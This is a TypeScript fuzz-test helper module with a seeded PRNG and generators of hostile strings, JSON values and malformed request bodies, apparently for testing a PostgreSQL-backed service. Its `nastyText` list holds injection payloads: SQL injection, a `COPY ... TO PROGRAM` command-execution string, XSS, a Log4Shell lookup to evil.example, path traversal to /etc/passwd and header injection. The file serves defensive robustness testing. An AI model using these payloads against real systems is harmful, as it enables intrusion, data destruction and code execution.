/**
 * Building blocks for the fuzz test: a seeded PRNG and generators of
 * hostile strings, JSON values and request bodies. Everything derives from
 * the seed, so a failing run is reproduced by its seed.
 *
 * @module
 */

/** mulberry32: small, fast, and good enough to pick test cases. */
export class Rng {
  #state: number;

  constructor(seed: number) {
    this.#state = seed >>> 0;
  }

  /** A float in [0, 1). */
  next(): number {
    let t = (this.#state = (this.#state + 0x6d2b79f5) >>> 0);
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  /** An integer in [0, n). */
  int(n: number): number {
    return Math.floor(this.next() * n);
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)]!;
  }
}

/** Text that is valid input but hostile to a careless service: injections, odd unicode. */
export const nastyText = [
  "'; DROP TABLE events; --",
  '" OR "1"="1',
  "1; SELECT pg_sleep(10)",
  "$$; COPY subscriptions TO PROGRAM 'id'; $$",
  "<script>alert(1)</script>",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "../../../../etc/passwd",
  "%00%0d%0a",
  "\\u0000",
  "\r\nX-Injected: yes",
  "\t\v\f",
  "🚀🔥",
  "👩‍👩‍👧‍👦",
  "\u202eevil\u202c",
  "שלום עולם",
  "مرحبا",
  "e\u0301\u0302\u0303",
  "\u200b\u200c\u200d\ufeff",
  "𝕳𝖊𝖑𝖑𝖔",
  "Ω≈ç√∫",
  "\uffff\ufffe",
  "null",
  "NaN",
  "-0",
  "__proto__",
  "constructor",
  " ",
];

/** Strings PostgreSQL cannot store as sent, or that break naive parsers. */
export const poisonText = [
  "\0",
  "a\0b",
  "\ud800",
  "\udfff",
  "x\ud83d",
  "\udc00y",
  "\0\ud800",
];

/** A valid, storable string of up to `max` characters. */
export function niceString(rng: Rng, max = 40): string {
  const s = rng.chance(0.5) ? rng.pick(nastyText) : `v${rng.int(1e6)}`;
  return s.slice(0, max) || "v";
}

/** A JSON value without NUL, unpaired surrogates or non-finite numbers, at most `depth` deep. */
export function niceJson(rng: Rng, depth: number): unknown {
  const kind = depth <= 0 ? rng.int(4) : rng.int(6);
  switch (kind) {
    case 0:
      return niceString(rng);
    case 1: {
      const n = rng.chance(0.5) ? rng.int(2 ** 31) - 2 ** 30 : (rng.next() - 0.5) * 1e12;
      return n || 0; // no -0: it would come back as 0
    }
    case 2:
      return rng.chance(0.5);
    case 3:
      return null;
    case 4:
      return Array.from({ length: rng.int(4) }, () => niceJson(rng, depth - 1));
    default:
      return niceObject(rng, depth - 1);
  }
}

export function niceObject(rng: Rng, depth: number): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (let i = rng.int(4); i > 0; i--) {
    const key = niceString(rng, 20);
    // A "__proto__" key written by assignment would set the prototype, not a key.
    if (key !== "__proto__") out[key] = niceJson(rng, depth);
  }
  return out;
}

/** Subscription metadata: a few storable string pairs. */
export function niceMetadata(rng: Rng): Record<string, string> {
  const out: Record<string, string> = {};
  for (let i = rng.int(4); i > 0; i--) {
    const key = niceString(rng, 64);
    if (key !== "__proto__") out[key] = niceString(rng, 1024);
  }
  return out;
}

/** Objects nested `depth` deep. */
export function deepObject(depth: number): unknown {
  let value: unknown = 1;
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
}

/**
 * A value for the request bodies of the fuzz test: any JSON, or text that
 * JSON.stringify cannot produce. Keys come from a pool that never names a
 * schema field, so a random object is never a valid request by accident.
 */
export function anyJson(rng: Rng, depth: number): unknown {
  switch (rng.int(depth <= 0 ? 5 : 8)) {
    case 0:
      return rng.pick([...nastyText, ...poisonText, "x".repeat(rng.int(5000))]);
    case 1:
      return rng.pick([0, -1, 1.5, 2 ** 53 + 1, -(2 ** 63), 1e308, Number.MAX_VALUE]);
    case 2:
      return rng.pick([true, false]);
    case 3:
      return null;
    case 4:
      return rng.pick([[], {}, "", [[]], [{}]]);
    case 5:
      return Array.from({ length: rng.int(5) }, () => anyJson(rng, depth - 1));
    case 6:
      return deepObject(rng.int(400));
    default: {
      const out: Record<string, unknown> = {};
      for (let i = rng.int(5); i > 0; i--) {
        out[rng.pick(["k", "zz", "Type", "DATA", "ids", "", " ", "\0", "\ud800", "🔑"])] = anyJson(
          rng,
          depth - 1,
        );
      }
      return out;
    }
  }
}

/** Bodies that are not JSON at all, or not JSON objects. */
export function garbageBody(rng: Rng): string | Uint8Array {
  switch (rng.int(9)) {
    case 0:
      return crypto.getRandomValues(new Uint8Array(rng.int(300)));
    case 1:
      return rng.pick(["", " ", "undefined", "NaN", "Infinity", "{", "}", "[", "nul", "tru"]);
    case 2:
      return rng.pick([
        "{'a':1}",
        "{a:1}",
        '{"a":1,}',
        "[1,]",
        '{"a":1}//',
        '{"a":01}',
        '{"a":.5}',
      ]);
    case 3:
      return rng.pick(['{"a":"\\ud800"', '{"\\u0000":1', '"\\x41"', '{"a":"\\u12"}', '{"a" 1}']);
    case 4:
      return "[".repeat(rng.int(200_000));
    case 5:
      return `{"a":${"9".repeat(rng.int(100_000))}}`.slice(0, -1);
    case 6:
      return "\uFEFF\uFEFF{";
    case 7:
      return JSON.stringify(anyJson(rng, 3)).slice(0, -1) || "[";
    default:
      return JSON.stringify(rng.pick([[], null, "str", 42, true, [{ type: "a", data: {} }]]));
  }
}
